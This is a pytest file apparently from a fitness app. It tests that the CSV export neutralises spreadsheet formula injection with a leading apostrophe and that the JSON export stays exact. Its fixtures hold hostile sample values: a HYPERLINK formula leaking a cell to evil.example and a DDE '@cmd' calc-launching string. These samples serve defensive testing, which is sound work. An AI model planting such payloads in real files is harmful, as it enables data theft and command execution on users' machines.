"""Spreadsheet formula injection: the CSV export writes a runner's text that starts like a
formula with a leading apostrophe (OWASP); numbers are untouched and the JSON stays exact."""

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest

from apps.exercises.models import Exercise
from apps.portability.exporting import spreadsheet_text
from tests.factories import ExerciseFactory, SetEntryFactory, TrainingSessionFactory

pytestmark = pytest.mark.usefixtures("routine")
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
FORMULA_NOTES = [LEAK, "+1 rep next time", "-2 reps, sore", "@SUM(A1:A9)", "\tindented", "\rCR"]


def download(client, name: str) -> str:
    return b"".join(client.get(f"/settings/export/legwork.{name}").streaming_content).decode()


@pytest.fixture
def hostile_history(runner):
    runner.timezone = "America/New_York"  # an offset of -05:00 inside session_start
    runner.save()
    move = ExerciseFactory(owner=runner, slug="-cmd", name="@cmd|' /C calc'!A0")
    squat = Exercise.objects.get(slug="squat")
    for day, notes in enumerate(FORMULA_NOTES, start=1):
        session = TrainingSessionFactory(
            user=runner, started_at=dt.datetime(2025, 3, day, 23, tzinfo=dt.UTC), notes=notes
        )
        SetEntryFactory(session=session, exercise=squat, set_number=1, reps=5, load_kg=Decimal(40))
        SetEntryFactory(session=session, exercise=move, set_number=1, reps=8, load_kg=None)
    return move


def csv_rows(client) -> list[dict]:
    return list(csv.DictReader(io.StringIO(download(client, "csv"), newline="")))


def test_notes_that_start_like_a_formula_get_an_apostrophe_in_the_csv(
    runner_client, hostile_history
):
    notes = {row["session_notes"] for row in csv_rows(runner_client)}
    assert notes == {f"'{text}" for text in FORMULA_NOTES}


def test_an_exercise_name_and_slug_that_start_like_a_formula_get_an_apostrophe(
    runner_client, hostile_history
):
    custom = [row for row in csv_rows(runner_client) if row["reps"] == "8"]
    assert {(row["exercise_slug"], row["exercise_name"]) for row in custom} == {
        ("'-cmd", "'@cmd|' /C calc'!A0")
    }


def test_numbers_dates_and_ordinary_text_are_written_as_they_are(runner_client, hostile_history):
    squat = [row for row in csv_rows(runner_client) if row["exercise_slug"] == "squat"]
    first = squat[0]
    assert first["session_start"] == "2025-03-01T18:00:00-05:00"
    assert (first["exercise_name"], first["reps"], first["load_kg"]) == ("Squat", "5", "40")
    assert spreadsheet_text("Cold gym = heavy legs") == "Cold gym = heavy legs"
    assert spreadsheet_text("") == ""


def test_the_json_export_keeps_the_texts_exact(runner_client, hostile_history):
    document = json.loads(download(runner_client, "json"))
    assert [session["notes"] for session in document["sessions"]] == FORMULA_NOTES
    assert document["custom_exercises"][0]["slug"] == "-cmd"
    assert document["custom_exercises"][0]["name"] == "@cmd|' /C calc'!A0"
